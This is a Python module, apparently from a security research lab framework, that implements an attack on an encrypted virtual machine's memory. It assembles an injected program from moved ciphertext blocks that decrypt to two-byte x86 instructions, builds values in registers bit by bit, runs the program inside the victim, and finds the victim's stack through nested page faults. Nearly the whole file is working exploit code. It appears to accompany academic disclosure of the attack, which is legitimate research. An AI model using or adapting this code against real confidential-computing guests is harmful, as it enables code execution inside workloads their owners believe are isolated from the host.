"""Programs of two-byte instructions, written over the victim's code out of moved blocks (A10, case 3).

    block    0              1                      2
             eb 1c …        … 31 ff (xor edi,edi)  eb 1c …        two blocks an instruction

A block that the victim has encrypted itself may stand between them as a whole.

Paper: attacks.md A10 steps 3, 4 and 7.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Final

from cbit.attacks.lab.corpus import Corpus, difference, xor
from cbit.attacks.lab.guest import HLT, NPF
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.cpu.engine.control_block import Exit
from cbit.spec.address import BLOCK, PAGE

PAIR: Final = 2 * BLOCK  #: what an instruction takes
LONGEST_NUMBER: Final = 68 * PAIR  #: 1 xor, 31 shl, 32 inc; and some room for blocks that are missing
PUSH_SYNC, PUSH, POP = b"\x57\xf4", b"\x57\x90", b"\x5f\x90"  # push rdi; hlt … push rdi; nop … pop rdi; nop
_SYNC, _NOP, _PUSH_RET = b"\xf4\x90", b"\x90\x90", b"\x57\xc3"
_SKIP: Final = {b"\xeb\x1c": 1, b"\xeb\x3c": 2}  # to the end of the next block but 0, or but 2
_XOR: Final = {"esi": b"\x31\xf6", "edi": b"\x31\xff"}
_SHL: Final = {"esi": b"\xd1\xe6", "edi": b"\xd1\xe7"}
_INC: Final = {"esi": b"\xff\xc6", "edi": b"\xff\xc7"}
_ROOM: Final = 8 * PAGE
_WRITE, _WALK = 1 << 1, 1 << 33  # in EXITINFO1


def number(register: str, value: int) -> list[bytes]:
    """Build a number in a register, bit by bit from the highest on: one round for each bit below it."""
    built = [_XOR[register]]
    for bit in f"{value:b}":
        built += [_SHL[register], _INC[register]] if bit == "1" else [_SHL[register]]
    del built[1]  # zero need not be shifted
    return built


@dataclass(frozen=True, slots=True)
class Whole:
    """A block that the victim has encrypted, as a part of a program.

    Attributes:
        cells: its ciphertext.
        source: system address that it is valid for.
        at: where in the program it has to be: guest physical.
        then: where the program goes on behind it.
    """

    cells: bytes
    source: int
    at: int
    then: int


class Writer:
    """Writes programs over a stretch of the victim's code, and runs them.

    Mutable.

    Args:
        hands: the adversary's.
        corpus: known plaintext.
        start: where the stretch begins: an instruction of the victim's, and a block.

    Attributes:
        first: where a program's first instruction goes.
        moved: how many blocks it has put in place.
        useful: bytes of all instructions that it has put in place.
        stretch: bytes of the victim's code that they took.
        stack: system address of the block of the stack that a program pushes to first.
    """

    def __init__(self, hands: Hands, corpus: Corpus, start: int) -> None:
        self._hands, self._corpus, self._start = hands, corpus, start
        self._running = False
        self.first: Final = start + PAIR
        self.moved = self.useful = self.stretch = 0
        self.stack = 0

    def run(
        self,
        program: Sequence[bytes | Whole],
        *,
        pushed: int,
        handle: Callable[[Exit], bool] = lambda _: False,
    ) -> None:
        """Put a program in place and let the victim run it up to its `hlt`.

        Its beginning is a `hlt` as well: there the victim stands whenever its code is replaced.  Behind its
        end the stack is put in order, and it begins anew.

        Args:
            program: what it does.
            pushed: how many words it leaves on the stack.
            handle: deals with other exits, as `Runner.until`.
        """
        victim = self._hands.victim
        if self._running:
            victim.skip(1)
            victim.until(HLT)
        self._write([_SYNC, *program, *[POP] * pushed, *number("edi", self._start), _PUSH_RET])
        if not self._running:
            victim.until(HLT, handle=handle)
        self._running = True
        victim.skip(1)
        victim.until(HLT, handle=handle)
        self._hands.caches.write_back()

    def _write(self, program: Sequence[bytes | Whole]) -> None:
        self._hands.caches.write_back()
        at = self._start
        for step in program:
            if isinstance(step, bytes):
                at = self._instruction(step, at)
                continue
            while at < step.at:
                at = self._instruction(_NOP, at)
            if at != step.at:
                raise Thwarted(f"the program is too long for the block at {step.at:#x}")
            target = self._hands.memory.spa(at)
            self._hands.memory.write(target, xor(step.cells, difference(step.source, target)))
            self.moved += 1
            at = step.then
        self._hands.caches.write_back()

    def _instruction(self, wanted: bytes, at: int) -> int:
        """Put an instruction in place, and say where the next one goes."""
        if at > self._start + _ROOM:
            raise Thwarted("the victim's code has no room for the program")
        missed = []
        for jump, pairs in _SKIP.items():
            end = at + PAIR * pairs
            if not self._put(jump, at, 0):
                missed.append(f"begins with {jump.hex()} at {at:#x}")
            elif not self._put(wanted, end - BLOCK, BLOCK - 2):
                missed.append(f"ends with {wanted.hex()} at {end - BLOCK:#x}")
            else:
                self.useful += len(wanted)
                self.stretch += end - at
                return end
        raise Thwarted(f"no block of the known plaintext {' or '.join(missed)}")

    def _put(self, wanted: bytes, gpa: int, at: int) -> bool:
        target = self._hands.memory.spa(gpa)
        found = self._corpus.find(wanted, target, at)
        if found is not None:
            self._hands.memory.write(target, self._corpus.ciphertext_for(found, target))
            self.moved += 1
        return found is not None

    def find_stack(self, log: Log) -> None:
        """Let the victim push: its stack faults, and a block of it changes.

        Raises:
            Thwarted: no page was pushed to.
        """
        hands = self._hands
        hands.caches.write_back()
        pages = hands.tables.pages()
        before = {gpa: hands.memory.read(hands.memory.spa(gpa), PAGE) for gpa in pages}
        touched: list[int] = []

        def note(exit: Exit) -> bool:
            if exit.code != NPF:
                return False
            gpa = gpa_of(exit.info_2) & -PAGE
            if exit.info_1 & _WRITE and not exit.info_1 & _WALK:
                touched.append(gpa)
            hands.tables.home(gpa)
            return True

        hands.tables.unmap(*pages)
        self.run([_INC["edi"], PUSH_SYNC], pushed=1, handle=note)  # not the zero that may be there already
        for gpa in pages:
            hands.tables.home(gpa)
        for gpa in dict.fromkeys(touched):
            after = hands.memory.read(hands.memory.spa(gpa), PAGE)
            changed = [
                at for at in range(0, PAGE, BLOCK) if after[at : at + BLOCK] != before[gpa][at : at + BLOCK]
            ]
            if changed:
                log.step(f"`push rdi` faults on {gpa:#x}, and a block changes at {changed[-1]:#x} there")
                self.stack = hands.memory.spa(gpa) + changed[-1]
                return
        raise Thwarted("no page was pushed to")
